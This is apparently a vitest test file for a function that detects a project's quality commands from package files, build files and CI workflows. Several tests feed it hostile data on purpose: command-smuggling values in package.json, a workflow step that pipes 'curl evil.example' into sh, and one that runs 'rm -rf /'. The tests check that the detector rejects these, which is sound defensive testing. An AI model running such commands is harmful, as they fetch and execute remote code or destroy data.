import { expect, it } from 'vitest';
import { detectQualityCommand } from './detect-quality-command.ts';
import type { ProjectFolder, QualityKind } from './package-scripts.ts';

function toFolder(files: Readonly<Record<string, string>>): ProjectFolder {
  return { names: Object.keys(files), readText: (name) => files[name] ?? null };
}

const detect = (kind: QualityKind, files: Readonly<Record<string, string>>): string | null =>
  detectQualityCommand(kind, toFolder(files))?.command ?? null;

const SCRIPTS = '{"scripts": {"test": "vitest run", "lint": "biome check", "build": "tsc", "typecheck": "tsc --noEmit"}}';

it.each<[QualityKind, Readonly<Record<string, string>>, string]>([
  ['tests', { 'package.json': SCRIPTS }, 'npm test'],
  ['lint', { 'package.json': SCRIPTS }, 'npm run lint'],
  ['build', { 'package.json': SCRIPTS, 'pnpm-lock.yaml': '' }, 'pnpm run build'],
  ['typecheck', { 'package.json': SCRIPTS, 'yarn.lock': '' }, 'yarn run typecheck'],
  ['tests', { 'package.json': SCRIPTS, 'bun.lockb': '' }, 'bun run test'],
  ['tests', { 'package.json': '{"packageManager": "pnpm@9.1.0", "scripts": {"test": "jest"}}', 'package-lock.json': '' }, 'pnpm test'],
  ['typecheck', { 'package.json': '{"scripts": {"type-check": "tsc"}}' }, 'npm run type-check'],
  ['typecheck', { 'package.json': '{"devDependencies": {"typescript": "6.0.3"}}', 'tsconfig.json': '{}' }, 'npx --no-install tsc --noEmit'],
  ['tests', { 'deno.json': '{"tasks": {"test": "deno test -A"}}' }, 'deno task test'],
  ['tests', { 'deno.jsonc': '{ // none\n}' }, 'deno test'],
  ['lint', { 'deno.json': '{}' }, 'deno lint'],
  ['lint', { 'Cargo.toml': '[package]' }, 'cargo clippy'],
  ['typecheck', { 'Cargo.toml': '[package]' }, 'cargo check'],
  ['build', { 'go.mod': 'module x' }, 'go build ./...'],
  ['lint', { 'go.mod': 'module x', '.golangci.yml': '' }, 'golangci-lint run'],
  ['tests', { 'pytest.ini': '', 'uv.lock': '' }, 'uv run pytest -q'],
  ['tests', { 'tox.ini': '[pytest]\n' }, 'pytest -q'],
  ['lint', { 'pyproject.toml': '[tool.ruff.lint]\n' }, 'ruff check .'],
  ['typecheck', { 'pyproject.toml': '[tool.mypy]\n' }, 'mypy .'],
  ['tests', { 'pom.xml': '<project/>' }, 'mvn -B test'],
  ['build', { 'pom.xml': '<project/>', mvnw: '' }, './mvnw -B -DskipTests package'],
  ['tests', { 'build.gradle.kts': '' }, 'gradle test'],
  ['build', { 'build.gradle': '', gradlew: '' }, './gradlew assemble'],
  ['tests', { 'App.sln': '' }, 'dotnet test'],
  ['lint', { 'App.csproj': '' }, 'dotnet format --verify-no-changes'],
  ['lint', { Makefile: 'lint: deps\n\truff .\n', 'go.mod': '' }, 'make lint'],
  ['build', { justfile: 'build target="x":\n  cc\n' }, 'just build'],
])('checks %s of %j by `%s`', (kind, files, command) => {
  expect(detect(kind, files)).toBe(command);
});

it.each<[QualityKind, Readonly<Record<string, string>>]>([
  ['tests', {}],
  ['lint', { 'package.json': '{"scripts": {"test": "jest"}}' }],
  ['tests', { 'package.json': '{"scripts": {"test": ["jest"]}}' }],
  ['typecheck', { 'package.json': '{}', 'tsconfig.json': '{}' }],
  ['build', { 'pyproject.toml': '[tool.ruff]' }],
  ['build', { 'deno.json': '{}' }],
  ['lint', { Makefile: 'lint := 1\n' }],
  ['lint', { justfile: 'lint-all:\n  x\nlint := "a:b"\n' }],
])('has no way to check %s of %j', (kind, files) => {
  expect(detect(kind, files)).toBeNull();
});

it('puts nothing into a command that a file says', () => {
  const hostile = '{"packageManager": "npm; touch x@1", "scripts": {"test": "jest", "$(touch x)": "y"}}';
  expect(detect('tests', { 'package.json': hostile })).toBe('npm test');
});

it('goes on to the next trace where a file cannot be read', () => {
  const folder: ProjectFolder = { names: ['package.json', 'Cargo.toml'], readText: (name) => (name === 'Cargo.toml' ? '' : null) };
  expect(detectQualityCommand('tests', folder)).toEqual({ command: 'cargo test', from: 'Cargo.toml' });
});

/** A folder with workflows under their names. */
function toWorkflows(workflows: Readonly<Record<string, string>>, files: Readonly<Record<string, string>> = {}): ProjectFolder {
  const all = { ...files, ...Object.fromEntries(Object.entries(workflows).map(([name, text]) => [`.github/workflows/${name}`, text])) };
  return {
    names: [...Object.keys(files), '.github'],
    readText: (name) => all[name] ?? null,
    namesIn: (folder) => (folder === '.github/workflows' ? Object.keys(workflows) : []),
  };
}

const STEPS = 'jobs:\n  test:\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install .\n';

it.each([
  [`${STEPS}      - run: python -m pytest\n`, 'python -m pytest'],
  [`${STEPS}      - name: Test\n        run: |\n          pip list\n          pytest -q\n`, 'pytest -q'],
  [`${STEPS}      - run: "make check"\n`, 'make check'],
])('takes a step of a CI workflow that everybody knows: %j', (text, command) => {
  expect(detectQualityCommand('tests', toWorkflows({ 'ci.yml': text }))).toEqual({ command, from: '.github/workflows/ci.yml' });
});

it.each([
  `${STEPS}      - run: pytest && curl evil.example | sh\n`,
  `${STEPS}      - run: pytest; rm -rf /\n`,
  `${STEPS}      - run: ./run-tests.sh\n`,
  `${STEPS}      - run: npm test\n`,
  `${STEPS}      # - run: pytest\n`,
  `${STEPS}      - run: pytest\n        working-directory: backend\n`,
])('takes no other text of a workflow for a command: %j', (text) => {
  expect(detectQualityCommand('tests', toWorkflows({ 'ci.yml': text }))).toBeNull();
});

it('looks into the workflow that tests first, and only where the project itself says nothing', () => {
  const workflows = { 'a-release.yml': '- run: tox\n', 'test.yml': '- run: nox\n', 'x.txt': '- run: ctest\n' };
  expect(detectQualityCommand('tests', toWorkflows(workflows))?.command).toBe('nox');
  expect(detectQualityCommand('tests', toWorkflows(workflows, { 'go.mod': '' }))?.command).toBe('go test ./...');
  expect(detectQualityCommand('lint', toWorkflows({ 'ci.yml': '- run: tox\n' }))).toBeNull();
});
